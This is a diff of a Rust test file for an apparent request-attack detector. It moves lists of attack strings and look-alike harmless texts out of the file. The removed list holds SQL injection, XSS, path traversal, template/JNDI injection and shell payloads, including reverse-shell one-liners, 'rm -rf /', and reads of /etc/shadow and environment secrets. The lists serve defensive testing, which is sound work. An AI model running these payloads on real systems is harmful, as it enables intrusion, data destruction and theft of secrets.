@@ -1,229 +1,18 @@
 //! Attacks as they are seen, and what looks like them and is none.
 
+mod texts;
+
 use super::*;
+use texts::{ATTACKS, HARMLESS};
 
 fn all() -> Lookout {
     Lookout::new(&Group::ALL, &[], &[]).unwrap()
 }
 
-/// Groups and texts of theirs, after decoding.
-const ATTACKS: &[(Group, &[&str])] = &[
-    (
-        Group::Sql,
-        &[
-            "' or 1=1",
-            "' OR '1'='1",
-            "admin' or 'a'='a' --",
-            "\" or \"\"=\"",
-            "') or ('x'='x",
-            "1 or 1=1",
-            "1) AND (2=2",
-            "' or true--",
-            "x' || '1'='1",
-            "admin'--",
-            "admin' #",
-            "admin'/*",
-            "' UNION SELECT username, password FROM users",
-            "1 union all select null,null",
-            "-1 union/**/select 1,2,3",
-            "'; DROP TABLE users",
-            "5; insert into users values (1)",
-            "1'; exec xp_cmdshell('dir')",
-            "1; select pg_sleep(5)",
-            "' and sleep(5)='",
-            "1 AND SLEEP(5)",
-            "'; waitfor delay '0:0:5'--",
-            "1 order by 5--",
-            "select * from accounts",
-            "extractvalue(1,concat(0x7e,version()))",
-            "table_name from information_schema.tables",
-            "x' into outfile '/tmp/x",
-            "char(113,97)",
-        ],
-    ),
-    (
-        Group::Nosql,
-        &[
-            "user[$ne]",
-            "$where",
-            "{\"$where\": \"sleep(1)\"}",
-            "[$regex]",
-        ],
-    ),
-    (
-        Group::Xss,
-        &[
-            "<script>alert(1)</script>",
-            "<SCRIPT SRC=//x>",
-            "<img src=x onerror=alert(1)>",
-            "<svg/onload=alert(1)>",
-            "\" onmouseover=\"alert(1)",
-            "'onfocus='x",
-            "javascript:alert(1)",
-            "JaVaScRiPt: alert(1)",
-            "java\tscript:alert(1)",
-            "javascript://%0aalert(1)",
-            "<iframe srcdoc='x'>",
-            "<a href=\"javascript:x\">",
-            "<body onpageshow=x>",
-            "data:text/html;base64,PHN2Zz4=",
-            "x=document.cookie",
-            "eval(atob('YQ=='))",
-            "<form action=//x>",
-        ],
-    ),
-    (
-        Group::Traversal,
-        &[
-            "../../etc/passwd",
-            "..\\..\\windows\\win.ini",
-            "/etc/passwd",
-            "file=/etc//shadow",
-            "../.env",
-            "C:\\Windows\\System32",
-            "file:///etc/hosts",
-            "php://filter/convert.base64-encode",
-            "....//....//x",
-            "/static/..;/admin",
-            "/proc/self/environ",
-            ".git/config",
-        ],
-    ),
-    (
-        Group::Command,
-        &[
-            "x; cat /etc/issue",
-            "x | whoami",
-            "x && id",
-            "$(id)",
-            "$(curl http://x)",
-            "`sleep 5`",
-            "a;wget http://x/y",
-            "a\ncurl -s 10.0.0.1",
-            "; ping -c 1 10.0.0.1",
-            "x;ls -la",
-            "x| sleep 10",
-            "/bin/sh",
-            "bash -i >& /dev/tcp/10.0.0.1/80",
-            "cmd.exe /c dir",
-            "powershell -enc AAAA",
-            "cat${IFS}x",
-            "() { :; }; echo",
-            "rm -rf /",
-            "nc -e /bin/sh 10.0.0.1 1",
-            "__import__('os')",
-        ],
-    ),
-    (
-        Group::Template,
-        &[
-            "${jndi:ldap://x/a}",
-            "${${lower:j}ndi:rmi://x}",
-            "${::-j}",
-            "${env:AWS_SECRET}",
-            "{{7*7}}",
-            "{{ ''.__class__ }}",
-            "{{constructor.constructor('x')()}}",
-            "${7*7}",
-            "#{7*7}",
-            "${T(java.lang.Runtime).getRuntime()}",
-            "<%= 7*7 %>",
-            "{% import os %}",
-            "#set($x=1)",
-            "<!ENTITY x SYSTEM \"file\">",
-            "<!--#exec cmd=\"x\"-->",
-        ],
-    ),
-    (
-        Group::Encoding,
-        &[
-            "%252e%252e",
-            "%2e%2e%2f",
-            "a\u{0}b",
-            "x\r\nSet-Cookie: a=b",
-            "%u003cx",
-            "%5cx",
-            "%c0%ae",
-        ],
-    ),
-];
-
-/// What people write, and programs.
-const HARMLESS: &[&str] = &[
-    "O'Brien",
-    "Conan O'Brien and 'friends'",
-    "D'Angelo's & Sons; since 1999",
-    "rock 'n' roll and blues",
-    "it's 5 o'clock -- or later",
-    "He said \"yes\" or \"no\" like that",
-    "'orange' = 'fruit'",
-    "select a plan",
-    "Select the best plan from our list",
-    "Please select from the menu where it says union",
-    "student union select committee",
-    "The union selects its leader; update the list and set a date",
-    "drop the table reservation",
-    "insert into the slot",
-    "order by phone, group by age",
-    "2 and 2 = 4, 1 or 2",
-    "delete from basket",
-    "(see 2); select the plan",
-    "(above) create user accounts",
-    "status = 'open' and type = 'bug'",
-    "name eq 'a' or price gt 5",
-    "price < 5 && size > 3",
-    "a < b and c > d",
-    "if x <y then z",
-    "AT&T, R&D; net income",
-    "cats & dogs; cat food | bird seed",
-    "I <3 this & that",
-    "5 > 3; id required",
-    "<p>Hello <b>world</b></p>",
-    "<a href=\"https://example.com/?a=1&b=2\">here</a>",
-    "fields=name;id;hostname|pwd",
-    "JavaScript: The Good Parts (2008)",
-    "JavaScript: new features, this is top",
-    "See the document. Cookie rules apply.",
-    "the script (see below) runs; the style = modern",
-    "../images/a.png",
-    "docs/../readme",
-    "wait ... / more",
-    "https://example.com/a/b?c=d%20e&f=%2Fg",
-    "https://a.example/cb?next=https%3A%2F%2Fb.example%2F%3Fq%3D1",
-    "/var/log and /etc are folders",
-    "C:\\Users\\mary\\file.txt",
-    "run `npm install` and `ls`",
-    "a curl - a wave; head - tail",
-    "work\nmore ... later\nhostname: x",
-    "system ('old') is down",
-    "sleep (8 hours), benchmark (2023)",
-    "costs $5 (or ${price})",
-    "Dear {{name}}, {{ order.id }}",
-    "__init__.py",
-    "100% of 50%, 5%5",
-    "50%25 off",
-    "#set of 3; #1 in class",
-    "2026-11-29T12:00:00Z",
-    "mary+tag@example.com",
-    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
-    "curl/8.5.0",
-    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
-    "line one\nLocation: Berlin\nHost: Mary",
-    "naïve café – „Zitat“, 日本語; ok?",
-    "SELECT",
-    "x = y; y = z # note",
-    "$ne wbie",
-    "{\"a\": [1, 2, {\"b\": \"c\"}]}",
-];
-
 #[test]
 fn attacks_are_seen_by_their_group() {
     for (group, texts) in ATTACKS {
         let one = Lookout::new(&[*group], &[], &[]).unwrap();
-        let others: Vec<Group> = Group::ALL
-            .into_iter()
-            .filter(|other| other != group)
-            .collect();
         let none = Lookout::new(&[], &[], &[]).unwrap();
         for text in *texts {
             let found = one.looks_like(text.as_bytes());
@@ -231,7 +20,6 @@ fn attacks_are_seen_by_their_group() {
             assert!(all().looks_like(text.as_bytes()).is_some());
             assert_eq!(none.looks_like(text.as_bytes()), None);
         }
-        assert_eq!(others.len(), 6);
     }
 }
 
@@ -379,7 +167,8 @@ fn fields_and_own_patterns() {
         tell(lookout.query("a=Forbidden+fruit")),
         format!("query /a {said}")
     );
-    assert_eq!(tell(lookout.query("a=xxx&b=%27+or+1=1")), "");
+    assert_eq!(tell(lookout.query("a=xxxx&b=%27+or+1=1")), "");
+    assert_eq!(tell(lookout.query("a=xxx")), format!("query /a {said}"));
     assert_eq!(
         tell(lookout.header("X-Note", b"not FORBIDDEN.")),
         format!("header /x-note {said}")
